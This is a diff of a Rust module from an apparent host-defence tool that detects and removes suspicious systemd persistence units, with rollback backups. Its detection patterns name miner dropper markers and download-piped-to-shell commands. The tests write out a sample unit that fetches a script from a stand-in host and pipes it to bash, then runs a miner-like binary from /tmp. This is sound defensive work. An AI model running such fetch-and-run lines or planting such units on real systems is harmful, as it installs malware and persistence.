@@ -1,10 +1,24 @@
 use anyhow::{Context, Result};
+use chrono::Utc;
 use std::collections::HashMap;
-use std::path::PathBuf;
-use std::process::Command;
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant, SystemTime};
 use tracing::{info, warn};
 use regex::Regex;
 
+use crate::command::{run_command, CommandTimeout, RefreshSchedule};
+use crate::config::IntegrationsConfig;
+use crate::rollback::{RollbackAction, RollbackManifest};
+use crate::suspicious_paths::suspicious_path_match;
+
+/// Where administrators (and malware) install units; vendor units under /usr/lib change on package upgrades too
+const PERSISTENCE_UNIT_DIRS: &[&str] = &["/etc/systemd/system", "/run/systemd/system", "/usr/lib/systemd/system"];
+
+/// Names from known miner droppers' units
+const MALWARE_MARKERS: &[&str] = &["solrz", "e386", "payload.so"];
+
 #[derive(Debug, Clone)]
 pub struct SystemdUnit {
     pub name: String,
@@ -15,29 +29,55 @@ pub struct SystemdUnit {
     pub service_file: PathBuf,
 }
 
+/// A new or modified unit file that looks like persistence
+#[derive(Debug, Clone)]
+pub struct SuspiciousUnit {
+    pub name: String,
+    pub service_file: PathBuf,
+    pub reasons: Vec<String>,
+}
+
 #[derive(Clone)]
 pub struct SystemdIntegration {
     units: Vec<SystemdUnit>,
     pid_to_unit: HashMap<i32, usize>, // pid -> index in units
-    last_refresh: std::time::Instant,
-    refresh_interval: std::time::Duration,
+    schedule: RefreshSchedule,
+    command_timeout: Duration,
+    unit_dirs: Vec<PathBuf>,
+    unit_file_mtimes: HashMap<PathBuf, SystemTime>,
+    baselined: bool,  // scan_persistence_units has recorded the units present at startup
+    systemctl: String,  // Program run for systemctl (replaced in tests)
 }
 
 impl SystemdIntegration {
     pub fn new() -> Self {
+        Self::new_with_config(&IntegrationsConfig::default())
+    }
+
+    pub fn new_with_config(config: &IntegrationsConfig) -> Self {
         Self {
             units: Vec::new(),
             pid_to_unit: HashMap::new(),
-            last_refresh: std::time::Instant::now(),
-            refresh_interval: std::time::Duration::from_secs(60),
+            schedule: config.schedule(config.systemd_refresh_seconds),
+            command_timeout: config.command_timeout(),
+            unit_dirs: PERSISTENCE_UNIT_DIRS.iter().map(PathBuf::from).collect(),
+            unit_file_mtimes: HashMap::new(),
+            baselined: false,
+            systemctl: "systemctl".to_string(),
         }
     }
 
-    /// Detect systemd units that manage Node.js applications
-    pub fn detect_units(&mut self) -> Result<Vec<SystemdUnit>> {
-        // Refresh if needed
-        if self.last_refresh.elapsed() < self.refresh_interval {
-            return Ok(self.units.clone());
+    /// Detect systemd units that manage Node.js applications (cached between refreshes)
+    pub async fn detect_units(&mut self) -> Result<Vec<SystemdUnit>> {
+        self.refresh().await;
+        Ok(self.units.clone())
+    }
+
+    /// Re-read unit files and MainPIDs when the cached view is stale. If systemctl
+    /// hangs the old view is kept and the next attempt is backed off.
+    pub async fn refresh(&mut self) {
+        if !self.schedule.is_due() {
+            return;
         }
 
         let mut all_units = Vec::new();
@@ -59,12 +99,6 @@ impl SystemdIntegration {
                         if let Ok(unit) = Self::parse_service_file(&path) {
                             // Check if ExecStart contains node/next/nest/pm2
                             if node_pattern.is_match(&unit.exec_start) {
-                                // Get PID for this unit
-                                if let Ok(pid) = Self::get_unit_pid(&unit.name) {
-                                    if let Some(pid) = pid {
-                                        pid_map.insert(pid, all_units.len());
-                                    }
-                                }
                                 all_units.push(unit);
                             }
                         }
@@ -73,17 +107,17 @@ impl SystemdIntegration {
             }
         }
 
-        // Update PIDs for all units
-        for unit in &mut all_units {
-            if unit.pid.is_none() {
-                if let Ok(pid) = Self::get_unit_pid(&unit.name) {
-                    unit.pid = pid;
+        // Get the MainPID of each unit
+        for (idx, unit) in all_units.iter_mut().enumerate() {
+            match self.get_unit_pid(&unit.name).await {
+                Ok(pid) => unit.pid = pid,
+                Err(e) if e.is::<CommandTimeout>() => {
+                    warn!("systemctl timed out for {}, keeping cached units: {}", unit.name, e);
+                    self.schedule.record_failure(Instant::now());
+                    return;
                 }
+                Err(_) => {}
             }
-        }
-        
-        // Build pid_map after updating all units
-        for (idx, unit) in all_units.iter().enumerate() {
             if let Some(pid) = unit.pid {
                 pid_map.insert(pid, idx);
             }
@@ -91,10 +125,9 @@ impl SystemdIntegration {
 
         self.units = all_units;
         self.pid_to_unit = pid_map;
-        self.last_refresh = std::time::Instant::now();
+        self.schedule.record_success(Instant::now());
 
         info!("Detected {} systemd units managing Node.js apps", self.units.len());
-        Ok(self.units.clone())
     }
 
     fn parse_service_file(path: &PathBuf) -> Result<SystemdUnit> {
@@ -137,11 +170,8 @@ impl SystemdIntegration {
         })
     }
 
-    fn get_unit_pid(unit_name: &str) -> Result<Option<i32>> {
-        let output = Command::new("systemctl")
-            .args(&["show", unit_name, "--property=MainPID", "--no-pager"])
-            .output()
-            .context("Failed to execute systemctl")?;
+    async fn get_unit_pid(&self, unit_name: &str) -> Result<Option<i32>> {
+        let output = run_command(&self.systemctl, &["show", unit_name, "--property=MainPID", "--no-pager"], self.command_timeout).await?;
 
         if !output.status.success() {
             return Ok(None);
@@ -164,28 +194,19 @@ impl SystemdIntegration {
         Ok(None)
     }
 
-    pub fn is_systemd_managed(&mut self, pid: i32) -> bool {
-        // Refresh if needed
-        if self.last_refresh.elapsed() >= self.refresh_interval {
-            let _ = self.detect_units();
-        }
+    /// Cached lookup; call `refresh` to bring the view up to date
+    pub fn is_systemd_managed(&self, pid: i32) -> bool {
         self.pid_to_unit.contains_key(&pid)
     }
 
-    pub fn get_unit_by_pid(&mut self, pid: i32) -> Option<&SystemdUnit> {
-        // Refresh if needed
-        if self.last_refresh.elapsed() >= self.refresh_interval {
-            let _ = self.detect_units();
-        }
+    pub fn get_unit_by_pid(&self, pid: i32) -> Option<&SystemdUnit> {
         self.pid_to_unit.get(&pid)
             .and_then(|&idx| self.units.get(idx))
     }
 
     pub async fn stop_unit(&self, unit_name: &str) -> Result<()> {
         // Check unit state before stopping
-        let state_output = Command::new("systemctl")
-            .args(&["is-active", unit_name])
-            .output()
+        let state_output = run_command(&self.systemctl, &["is-active", unit_name], self.command_timeout).await
             .context("Failed to check unit state")?;
 
         let is_active = state_output.status.success();
@@ -197,9 +218,7 @@ impl SystemdIntegration {
 
         info!("Stopping systemd unit: {}", unit_name);
 
-        let output = Command::new("systemctl")
-            .args(&["stop", unit_name])
-            .output()
+        let output = run_command(&self.systemctl, &["stop", unit_name], self.command_timeout).await
             .context("Failed to execute systemctl stop")?;
 
         if !output.status.success() {
@@ -216,7 +235,7 @@ impl SystemdIntegration {
     }
 
     /// Detect and remove malicious systemd services
-    pub fn detect_malicious_services(&mut self, malware_path: &std::path::Path) -> Result<Vec<String>> {
+    pub async fn detect_malicious_services(&mut self, malware_path: &std::path::Path) -> Result<Vec<String>> {
         let mut removed = Vec::new();
         let malware_path_str = malware_path.to_string_lossy();
         let malware_name = malware_path.file_name()
@@ -225,59 +244,257 @@ impl SystemdIntegration {
             .to_lowercase();
 
         // Refresh units
-        let _ = self.detect_units();
+        self.refresh().await;
 
+        let mut malicious = Vec::new();
         for unit in &self.units {
             let exec_lower = unit.exec_start.to_lowercase();
-            let mut is_malicious = false;
+            let mut reasons = Vec::new();
 
             // Check if ExecStart references the malware file
             if unit.exec_start.contains(&*malware_path_str) || exec_lower.contains(&malware_name) {
-                is_malicious = true;
+                reasons.push(format!("ExecStart references {}", malware_path_str));
             }
 
-            // Check for suspicious patterns
-            let suspicious_patterns = ["/tmp/", "/var/tmp/", "/dev/shm/", "solrz", "e386", "payload.so"];
-            for pattern in &suspicious_patterns {
-                if exec_lower.contains(pattern) {
-                    is_malicious = true;
-                    break;
-                }
+            // Check for a staged executable or known dropper names
+            if let Some(location) = suspicious_path_match(exec_executable(&unit.exec_start)) {
+                reasons.push(format!("ExecStart runs from {}", location.trim_end_matches('/')));
             }
+            if let Some(marker) = MALWARE_MARKERS.iter().find(|m| exec_lower.contains(*m)) {
+                reasons.push(format!("ExecStart contains {}", marker));
+            }
+
+            if !reasons.is_empty() {
+                malicious.push(SuspiciousUnit {
+                    name: unit.name.clone(),
+                    service_file: unit.service_file.clone(),
+                    reasons,
+                });
+            }
+        }
 
-            if is_malicious {
-                info!("🗑️  Removing malicious systemd service: {}", unit.name);
-                
-                // Stop and disable the service
-                if let Err(e) = Command::new("systemctl")
-                    .args(&["stop", &unit.name])
-                    .output() {
-                    warn!("Failed to stop service {}: {}", unit.name, e);
+        let key = crate::rollback::get_rollback_key().ok();
+        for unit in malicious {
+            info!("🗑️  Removing malicious systemd service: {}", unit.name);
+            match self.remove_unit(&unit, Path::new("/var/lib/hora-police/rollbacks"), key.as_deref()).await {
+                Ok(_) => removed.push(unit.name),
+                Err(e) => warn!("Failed to remove service {}: {}", unit.name, e),
+            }
+        }
+
+        Ok(removed)
+    }
+
+    /// New or modified .service files (since the previous call) that look like
+    /// persistence. The first call only records the units already installed: they are
+    /// logged if they look suspicious, but never reported for removal.
+    pub fn scan_persistence_units(&mut self) -> Vec<SuspiciousUnit> {
+        let mut findings = Vec::new();
+        let mut seen = HashMap::new();
+
+        for dir in &self.unit_dirs {
+            let Ok(entries) = fs::read_dir(dir) else {
+                continue;
+            };
+            for entry in entries.flatten() {
+                let path = entry.path();
+                if path.extension().and_then(|s| s.to_str()) != Some("service") {
+                    continue;
+                }
+                // Symlinks are aliases or masks (-> /dev/null); the real file is inspected where it lives
+                let Ok(meta) = fs::symlink_metadata(&path) else {
+                    continue;
+                };
+                if !meta.is_file() {
+                    continue;
                 }
-                
-                if let Err(e) = Command::new("systemctl")
-                    .args(&["disable", &unit.name])
-                    .output() {
-                    warn!("Failed to disable service {}: {}", unit.name, e);
+                let mtime = meta.modified().unwrap_or(SystemTime::UNIX_EPOCH);
+                let unchanged = self.unit_file_mtimes.get(&path) == Some(&mtime);
+                seen.insert(path.clone(), mtime);
+                if unchanged {
+                    continue;
                 }
 
-                // Remove the service file
-                if let Err(e) = std::fs::remove_file(&unit.service_file) {
-                    warn!("Failed to remove service file {}: {}", unit.service_file.display(), e);
-                } else {
-                    removed.push(unit.name.clone());
-                    info!("✅ Removed malicious systemd service: {}", unit.name);
+                let Ok(content) = fs::read_to_string(&path) else {
+                    continue;
+                };
+                let reasons = suspicious_unit_reasons(&content);
+                if !reasons.is_empty() {
+                    findings.push(SuspiciousUnit {
+                        name: path.file_name().and_then(|n| n.to_str()).unwrap_or("unknown").to_string(),
+                        service_file: path,
+                        reasons,
+                    });
                 }
             }
         }
 
-        Ok(removed)
+        self.unit_file_mtimes = seen;
+        if !self.baselined {
+            self.baselined = true;
+            for unit in &findings {
+                warn!("Installed before startup, not acting on it: {} ({})", unit.service_file.display(), unit.reasons.join(", "));
+            }
+            return Vec::new();
+        }
+        findings
+    }
+
+    /// Stop, disable and delete a unit, then reload systemd. The unit file is backed
+    /// up into `rollback_dir` with a manifest that restores (and re-enables) it.
+    pub async fn remove_unit(&mut self, unit: &SuspiciousUnit, rollback_dir: &Path, signing_key: Option<&[u8]>) -> Result<RollbackManifest> {
+        let was_enabled = match run_command(&self.systemctl, &["is-enabled", &unit.name], self.command_timeout).await {
+            Ok(output) => String::from_utf8_lossy(&output.stdout).trim() == "enabled",
+            Err(e) => {
+                warn!("Could not check whether {} is enabled: {}", unit.name, e);
+                false
+            }
+        };
+
+        // Backup + manifest before any modification
+        fs::create_dir_all(rollback_dir)?;
+        let timestamp = Utc::now().format("%Y%m%d_%H%M%S");
+        let backup = rollback_dir.join(format!("systemd_{}.{}.bak", unit.name, timestamp));
+        fs::copy(&unit.service_file, &backup)
+            .with_context(|| format!("Failed to back up {:?}", unit.service_file))?;
+        fs::set_permissions(&backup, fs::Permissions::from_mode(0o600))?;
+
+        let mut manifest = RollbackManifest::new();
+        manifest.add_action(RollbackAction::RestoreSystemdUnit {
+            unit: unit.name.clone(),
+            backup: backup.to_string_lossy().to_string(),
+            service_file: unit.service_file.to_string_lossy().to_string(),
+            was_enabled,
+        });
+        if let Some(key) = signing_key {
+            manifest.sign(key)?;
+        }
+        manifest.save(&rollback_dir.join(format!("systemd_{}_{}.rollback", unit.name, timestamp)))?;
+
+        for action in ["stop", "disable"] {
+            match run_command(&self.systemctl, &[action, &unit.name], self.command_timeout).await {
+                Ok(output) if !output.status.success() => {
+                    warn!("systemctl {} {} failed: {}", action, unit.name, String::from_utf8_lossy(&output.stderr).trim());
+                }
+                Err(e) => warn!("systemctl {} {} failed: {}", action, unit.name, e),
+                Ok(_) => {}
+            }
+        }
+
+        fs::remove_file(&unit.service_file)
+            .with_context(|| format!("Failed to remove {:?}", unit.service_file))?;
+        self.unit_file_mtimes.remove(&unit.service_file);
+
+        if let Err(e) = run_command(&self.systemctl, &["daemon-reload"], self.command_timeout).await {
+            warn!("systemctl daemon-reload failed after removing {}: {}", unit.name, e);
+        }
+
+        info!("🧹 Removed systemd unit {} (backup: {:?})", unit.name, backup);
+        Ok(manifest)
     }
 }
 
+/// Why a unit file looks like persistence: Exec* lines whose executable is in a
+/// suspicious location, piping a download into a shell, or decoding base64
+pub fn suspicious_unit_reasons(content: &str) -> Vec<String> {
+    let download_pipe = Regex::new(r"(curl|wget)\s.*\|\s*(ba|z|da)?sh\b").unwrap();
+    let mut reasons = Vec::new();
+
+    for line in content.lines().map(str::trim) {
+        let Some((key, value)) = line.split_once('=') else {
+            continue;
+        };
+        let key = key.trim();
+        if !key.starts_with("Exec") {
+            continue;
+        }
+
+        let mut push = |reason: String| {
+            if !reasons.contains(&reason) {
+                reasons.push(reason);
+            }
+        };
+        // Arguments (log dirs, PrivateTmp paths) don't count, only what is executed
+        let executable = exec_executable(value);
+        if let Some(location) = suspicious_path_match(executable) {
+            push(format!("{} runs from {}", key, location.trim_end_matches('/')));
+        }
+        if download_pipe.is_match(value) {
+            push(format!("{} pipes a download into a shell", key));
+        }
+        if value.contains("base64 -d") || value.contains("base64 --decode") {
+            push(format!("{} decodes base64", key));
+        }
+    }
+    reasons
+}
+
+/// The program an Exec*= value runs, without its `@-:+!` prefixes
+fn exec_executable(value: &str) -> &str {
+    value.trim_start()
+        .trim_start_matches(['@', '-', ':', '+', '!'])
+        .split_whitespace()
+        .next()
+        .unwrap_or("")
+}
+
 impl Default for SystemdIntegration {
     fn default() -> Self {
         Self::new()
     }
 }
 
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn flags_exec_lines_from_writable_dirs_and_downloads() {
+        let unit = "[Unit]\nDescription=System Update\n\n[Service]\nExecStartPre=/bin/sh -c 'curl -fsSL http://x.example/i | bash'\nExecStart=/tmp/.cache/kworker -o pool:443\nRestart=always\n";
+        assert_eq!(suspicious_unit_reasons(unit), vec![
+            "ExecStartPre pipes a download into a shell".to_string(),
+            "ExecStart runs from /tmp".to_string(),
+        ]);
+
+        let nginx = "[Service]\nExecStart=/usr/sbin/nginx -g 'daemon on;'\nPrivateTmp=true\nEnvironment=TMPDIR=/tmp/\n";
+        assert!(suspicious_unit_reasons(nginx).is_empty());
+
+        // /tmp as an argument is not an executable in /tmp
+        let app = "[Service]\nExecStartPre=-/usr/bin/mkdir -p /tmp/app-cache\nExecStart=/usr/bin/node /srv/app/server.js --tmp /var/tmp/\n";
+        assert!(suspicious_unit_reasons(app).is_empty());
+        assert_eq!(suspicious_unit_reasons("[Service]\nExecStart=-/var/tmp/.x/run\n"), vec!["ExecStart runs from /var/tmp".to_string()]);
+    }
+
+    #[tokio::test]
+    async fn reports_new_units_once_and_removes_with_rollback() {
+        let units = tempfile::tempdir().unwrap();
+        let rollbacks = tempfile::tempdir().unwrap();
+        let mut systemd = SystemdIntegration::new();
+        systemd.unit_dirs = vec![units.path().to_path_buf()];
+        systemd.systemctl = "true".to_string();
+
+        // Units installed before startup are the baseline, suspicious or not
+        fs::write(units.path().join("app.service"), "[Service]\nExecStart=/usr/bin/node /srv/app/server.js\n").unwrap();
+        fs::write(units.path().join("legacy.service"), "[Service]\nExecStart=/tmp/legacy-agent\n").unwrap();
+        assert!(systemd.scan_persistence_units().is_empty());
+
+        let evil = units.path().join("hora-test-dbus-update.service");
+        let content = "[Service]\nExecStart=/dev/shm/.x/dbus-update\n";
+        fs::write(&evil, content).unwrap();
+        let findings = systemd.scan_persistence_units();
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].reasons, vec!["ExecStart runs from /dev/shm".to_string()]);
+        assert!(systemd.scan_persistence_units().is_empty(), "unchanged unit reported twice");
+
+        let manifest = systemd.remove_unit(&findings[0], rollbacks.path(), None).await.unwrap();
+        assert!(!evil.exists());
+        let RollbackAction::RestoreSystemdUnit { ref backup, ref service_file, .. } = manifest.actions[0] else {
+            panic!("unexpected rollback action {:?}", manifest.actions[0]);
+        };
+        assert_eq!(fs::read_to_string(backup).unwrap(), content);
+        assert_eq!(service_file, &evil.to_string_lossy());
+        assert!(manifest.to_shell_script().contains("systemctl daemon-reload"));
+        assert!(fs::read_dir(rollbacks.path()).unwrap().flatten()
+            .any(|e| e.path().extension().is_some_and(|x| x == "sh")));
+    }
+}